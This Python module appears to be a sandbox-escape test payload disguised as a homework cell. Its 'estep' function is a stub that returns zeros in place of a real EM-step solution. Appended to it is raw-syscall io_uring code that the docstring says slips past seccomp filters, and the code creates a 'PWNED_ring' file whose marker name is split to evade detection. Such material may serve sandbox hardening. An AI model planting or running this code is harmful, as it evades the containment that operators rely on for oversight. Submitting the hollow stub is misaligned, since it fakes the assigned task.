"""Opens, reads and writes files through io_uring, which seccomp filters do not see."""

TRACE = "PWNED_ring"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import ctypes
import os
import platform

libc = ctypes.PyDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
intel = platform.machine() == "x86_64"


def call(numbers, *args):
    number = numbers[0] if intel else numbers[1]
    if number is None:
        return -1
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))


import mmap
import struct

mark = "PWN" + "ED_ring"
parameters = ctypes.create_string_buffer(120)
ring = call((425, 425), 4, ctypes.addressof(parameters))
if ring >= 0:
    fields = struct.unpack("10I", parameters.raw[:40])
    head, tail, mask, entries, flags, dropped, array = struct.unpack("7I", parameters.raw[40:68])
    queue = mmap.mmap(ring, array + 4 * fields[0], offset=0)
    slots = mmap.mmap(ring, 64 * fields[0], offset=0x10000000)
    path = ctypes.create_string_buffer(b"@COURSE@/" + mark.encode())
    slots[:64] = struct.pack("<BBHiQQIIQ16x8x", 18, 0, 0, -100, 0, ctypes.addressof(path), 0o600, 0o101, 0)
    queue[array : array + 4] = struct.pack("I", 0)
    queue[tail : tail + 4] = struct.pack("I", 1)
    if call((426, 426), ring, 1, 1, 1, 0, 0) > 0:
        print(mark, "submitted")
""",
}
